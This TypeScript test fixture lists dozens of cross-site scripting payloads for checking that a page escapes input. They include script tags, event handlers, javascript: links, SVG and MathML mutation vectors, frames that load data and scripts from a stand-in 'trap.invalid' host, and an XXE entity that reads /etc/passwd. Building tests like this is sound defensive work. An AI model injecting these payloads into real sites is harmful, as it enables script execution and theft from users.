/** An address that leads nowhere (RFC 6761): asking for it is seen all the same. */
export const TRAP = 'https://trap.invalid';

export interface Hostile {
  name: string;
  markup: string;
  /** A browser acts on it where it gets into a page as markup: the proof that the watch would see it. */
  acts: boolean;
}

const acting = (name: string, markup: string): Hostile => ({ name, markup, acts: true });
/** What another browser, an earlier one or another encoding would act on. */
const inert = (name: string, markup: string): Hostile => ({ name, markup, acts: false });

/** What must never be markup, script, address or the end of something, wherever a sender puts it. */
export const HOSTILE: readonly Hostile[] = [
  acting('a script', '<script>alert(1)</script>'),
  acting('a script from elsewhere', `<script src="${TRAP}/script.js"></script>`),
  acting('a script in capitals, split over lines', '<SCRIPT\n\t>alert(1)</SCRIPT\n>'),
  acting('a module', `<script type=module>import "${TRAP}/module.js"</script>`),
  acting('a picture that fails', '<img src=x onerror=alert(1)>'),
  acting('a picture out of its attribute', '"><img src=x onerror=alert(1)>'),
  acting('a picture out of a single quoted attribute', "'><img src=x onerror=alert(1)>"),
  acting('a handler out of its attribute', '" onmouseover="alert(1)" x="'),
  acting('a handler out of a single quoted attribute', "' onmouseover='alert(1)' x='"),
  acting('a handler that needs no mouse', '<b autofocus tabindex=0 onfocus=alert(1)>x</b>'),
  acting('a handler with slashes for blanks', '<p/onclick=alert(1)/x>x'),
  acting('a handler with a character reference', '<p onclick="&#97;lert(1)">x</p>'),
  acting('details that open', '<details open ontoggle=alert(1)>x</details>'),
  acting('an animation', '<style>@keyframes x{}</style><p style="animation:x 1s" onanimationend="alert(1)">x</p>'),
  acting('svg that loads', '<svg/onload=alert(1)>'),
  acting('a script in svg', '<svg><script>alert(1)</script></svg>'),
  acting('a script in svg by a character reference', '<svg><script>&#97;lert(1)</script></svg>'),
  acting('a link in svg', '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>'),
  acting(
    'a value that svg sets later',
    '<svg><a><set attributeName=href to="javascript:alert(1)"/><text y=20>x</text></a></svg>',
  ),
  acting(
    'a document in svg',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  ),
  acting('a link in mathml', '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>'),
  acting('mathml that turns into html', '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>'),
  acting('a link', '<a href="javascript:alert(1)">x</a>'),
  acting('a link with a tab', '<a href="java\tscript:alert(1)">x</a>'),
  acting('a link with a line end', '<a href="java\nscript:alert(1)">x</a>'),
  acting('a link with a control character before it', '<a href="&#1;javascript:alert(1)">x</a>'),
  acting('a link with a padded character reference', '<a href="java&#x0000000073;cript:alert(1)">x</a>'),
  acting('a link with a padded decimal reference', '<a href="java&#0000000000115;cript:alert(1)">x</a>'),
  acting(
    'a link with references that do not end',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)">x</a>',
  ),
  acting('a link with references by name', '<a href="java&Tab;script&colon;alert&lpar;1&rpar;">x</a>'),
  acting('a form', `<form action="${TRAP}/form"><button>x</button></form>`),
  acting('a form that runs', '<form><button formaction="javascript:alert(1)">x</button></form>'),
  acting('a frame', `<iframe src="${TRAP}/frame"></iframe>`),
  acting('a frame that runs', '<iframe src="javascript:alert(1)"></iframe>'),
  acting('a frame with its document', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
  acting('a frame with a padded document', '<iframe srcdoc="&#x000000003c;script>alert(1)</script>"></iframe>'),
  acting('a frame with data', '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'),
  acting(
    'a frame with packed data',
    '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
  ),
  acting('an object', '<object data="data:text/html,<script>alert(1)</script>"></object>'),
  acting(
    'something embedded',
    '<embed src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'><script>alert(1)</script></svg>">',
  ),
  acting('another base', `<base href="${TRAP}/base/"><img src=picture.png>`),
  acting('a style sheet', `<link rel=stylesheet href="${TRAP}/style.css">`),
  acting('an import of styles', `<style>@import "${TRAP}/import.css";</style>`),
  acting('a background', `<p style="background:url(${TRAP}/background.png)">x</p>`),
  acting('the end of a style', `</style><script>alert(1)</script>`),
  acting('the end of a title', '</title><script>alert(1)</script>'),
  acting('the end of a table', `</td></tr></table><iframe src=javascript:alert(1)></iframe>`),
  acting('the end of a comment', '--><script>alert(1)</script>'),
  acting('the end of a text field', '</textarea><script>alert(1)</script>'),
  acting('the end of a section', ']]><script>alert(1)</script>'),
  acting('text that is markup elsewhere', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
  acting(
    'a template that ends',
    '<template><p title="</template><img src=x onerror=alert(1)>"></template><img src=x onerror=alert(1)>',
  ),
  acting('a text field that is none in svg', '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">'),
  acting('sound', `<audio src="${TRAP}/sound.ogg" autoplay onerror=alert(1)></audio>`),
  acting('a film', '<video><source onerror=alert(1)></video>'),
  acting('going elsewhere', `<meta http-equiv=refresh content="0;url=${TRAP}/refresh">`),
  acting('going elsewhere later', `<meta http-equiv="refresh" content="3; url='${TRAP}/later'">`),
  acting('a file that is saved', '<a download="x.html" href="data:text/html,<script>alert(1)</script>">x</a>'),
  acting('a shadow', '<p><template shadowrootmode=open><img src=x onerror=alert(1)></template></p>'),
  acting(
    'something to show over the page',
    '<button popovertarget=p>x</button><p id=p popover onbeforetoggle=alert(1)>x</p>',
  ),
  inert('markup that was escaped once', '&lt;script&gt;alert(1)&lt;/script&gt;'),
  inert('markup that was escaped twice', '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;'),
  inert('padded references', '&#x0000003c;script&#x000000003e;alert(1)&#x0000003c;/script&#0000000000062;'),
  inert('references that do not end', '&#x3cscript&#x3ealert(1)&#x3c/script&#x3e'),
  inert('UTF-7', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
  inert(
    'letters that some fold into brackets',
    '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e ‹script› \u3008script\u3009',
  ),
  inert('UTF-16 in its bytes', '\u0100<\u0100s\u3c00\u7300\u6300\u7200\u6900\u7000\u7400\u3e00'),
  inert('an escape of ISO 2022', 'ESC(J\\"><script'),
  inert('an expression', '<p style="width:expression(alert(1))">x</p>'),
  inert('a binding', `<p style="-moz-binding:url(//trap.invalid/x.xml#x)">x</p>`),
  inert('a link that other browsers run', '<a href="vbscript:msgbox(1)">x</a>'),
  inert('a conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'),
  inert('an instruction', '<?xml-stylesheet href="javascript:alert(1)"?>'),
  inert('an entity', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;'),
  inert('words of a template', '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= alert(1) %> #{alert(1)}'),
  inert('a change of direction', '\u202e>tpircs/<)1(trela>tpircs<\u202c'),
];

/** A page that forgot to escape: the words in text, title and attributes of both kinds. */
export const unescapedPage = (markup: string, policy = ''): string =>
  `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">${policy}<title>${markup}</title></head><body>` +
  `<table><tr><td>${markup}</td></tr></table><p title="${markup}">x</p><p title='${markup}'>x</p></body></html>`;
